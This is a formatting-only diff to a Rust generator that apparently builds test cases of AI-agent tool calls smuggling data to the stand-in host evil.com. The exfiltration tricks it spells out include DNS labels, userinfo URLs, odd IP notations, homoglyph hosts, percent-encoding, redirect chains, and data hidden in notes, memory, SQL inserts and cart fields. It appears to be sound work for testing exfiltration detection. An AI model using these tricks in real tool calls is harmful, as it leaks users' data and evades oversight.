@@ -22,7 +22,7 @@ pub struct Loot<'a> {
 
 impl Loot<'_> {
     fn evil(&mut self) -> &'static str {
-        self.random.pick(&DOMAINS)
+        *self.random.pick::<&'static str>(&DOMAINS)
     }
 
     /// The data as labels of a host name.
@@ -34,7 +34,8 @@ impl Loot<'_> {
     }
 
     fn path(&self) -> String {
-        percent_encoding::utf8_percent_encode(&self.data, percent_encoding::NON_ALPHANUMERIC).to_string()
+        percent_encoding::utf8_percent_encode(&self.data, percent_encoding::NON_ALPHANUMERIC)
+            .to_string()
     }
 
     /// An address of the adversary that carries the data.
@@ -92,7 +93,8 @@ fn base64(data: &str) -> String {
     const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
     let mut out = String::new();
     for three in data.as_bytes().chunks(3) {
-        let bits = three.iter().fold(0u32, |bits, b| bits << 8 | u32::from(*b)) << (8 * (3 - three.len()));
+        let bits =
+            three.iter().fold(0u32, |bits, b| bits << 8 | u32::from(*b)) << (8 * (3 - three.len()));
         for at in 0..4 {
             let letter = LETTERS[(bits >> (18 - 6 * at)) as usize & 63];
             out.push(if at <= three.len() { char::from(letter) } else { '=' });
@@ -129,9 +131,13 @@ pub const ALL: &[(&str, fn(&mut Loot<'_>) -> Call)] = &[
     ("label of a named host", |loot| {
         ("web.fetch", json!({"url": format!("https://{}.{}/", loot.label(), loot.named)}))
     }),
-    ("name looked up", |loot| ("web.lookup", json!({"host": format!("{}.{}", loot.label(), loot.evil())}))),
+    ("name looked up", |loot| {
+        let evil = loot.evil();
+        ("web.lookup", json!({"host": format!("{}.{evil}", loot.label())}))
+    }),
     ("userinfo", |loot| {
-        let url = format!("https://{}@{}/{}", loot.named, loot.evil(), loot.path());
+        let evil = loot.evil();
+        let url = format!("https://{}@{evil}/{}", loot.named, loot.path());
         ("web.fetch", json!({"url": url}))
     }),
     ("address that clients read differently", |loot| {
@@ -151,7 +157,14 @@ pub const ALL: &[(&str, fn(&mut Loot<'_>) -> Call)] = &[
         ("web.open", json!({"page": format!("{}:{port}", loot.evil())}))
     }),
     ("number for a host", |loot| {
-        let written = ["3405803783", "0xcb007107", "0313.0.0161.07", "203.0.28935", "203.0.113.7", "[::ffff:203.0.113.7]"];
+        let written = [
+            "3405803783",
+            "0xcb007107",
+            "0313.0.0161.07",
+            "203.0.28935",
+            "203.0.113.7",
+            "[::ffff:203.0.113.7]",
+        ];
         let written = *loot.random.pick(&written);
         match loot.random.below(3) {
             0 => ("web.lookup", json!({"host": 3_405_803_783_u64})),
@@ -160,7 +173,14 @@ pub const ALL: &[(&str, fn(&mut Loot<'_>) -> Call)] = &[
         }
     }),
     ("host in another script", |loot| {
-        let written = ["\u{435}vil.com", "evil\u{3002}com", "\u{ff45}vil\u{ff0e}com", "ev\u{ad}il.com", "EVIL.COM", "evil.com."];
+        let written = [
+            "\u{435}vil.com",
+            "evil\u{3002}com",
+            "\u{ff45}vil\u{ff0e}com",
+            "ev\u{ad}il.com",
+            "EVIL.COM",
+            "evil.com.",
+        ];
         let written = *loot.random.pick(&written);
         let address = format!("{written}/{}", loot.path());
         match loot.random.below(3) {
@@ -171,7 +191,11 @@ pub const ALL: &[(&str, fn(&mut Loot<'_>) -> Call)] = &[
     }),
     ("percent-encoded host", |loot| {
         let path = loot.path();
-        let url = *loot.random.pick(&["https://%65vil.com/", "https://evil%2Ecom/", "https%3A%2F%2Fevil.com%2F"]);
+        let url = *loot.random.pick(&[
+            "https://%65vil.com/",
+            "https://evil%2Ecom/",
+            "https%3A%2F%2Fevil.com%2F",
+        ]);
         ("web.fetch", json!({"url": format!("{url}{path}")}))
     }),
     ("redirect", |loot| {
@@ -189,7 +213,8 @@ pub const ALL: &[(&str, fn(&mut Loot<'_>) -> Call)] = &[
         let through = *loot.random.pick(&REDIRECTORS);
         // Redirects to redirects, each in the parameter of the one before.
         for _ in 0..=loot.random.below(3) {
-            let inner = percent_encoding::utf8_percent_encode(&to, percent_encoding::NON_ALPHANUMERIC);
+            let inner =
+                percent_encoding::utf8_percent_encode(&to, percent_encoding::NON_ALPHANUMERIC);
             to = format!("https://{through}/r?to={inner}");
         }
         ("web.fetch", json!({ "url": to }))
@@ -276,7 +301,10 @@ pub const ALL: &[(&str, fn(&mut Loot<'_>) -> Call)] = &[
             4 => ("notes.add", json!({"text": data})),
             5 => ("database.execute", json!({"sql": format!("INSERT INTO log VALUES ('{data}')")})),
             6 => ("remember", json!({"text": data})),
-            7 => ("cart.addItem", json!({"partNo": data.chars().take(60).collect::<String>(), "quantity": 2})),
+            7 => (
+                "cart.addItem",
+                json!({"partNo": data.chars().take(60).collect::<String>(), "quantity": 2}),
+            ),
             _ => ("cart.setItemQuantity", json!({"productId": "A-1", "quantity": 3})),
         }
     }),
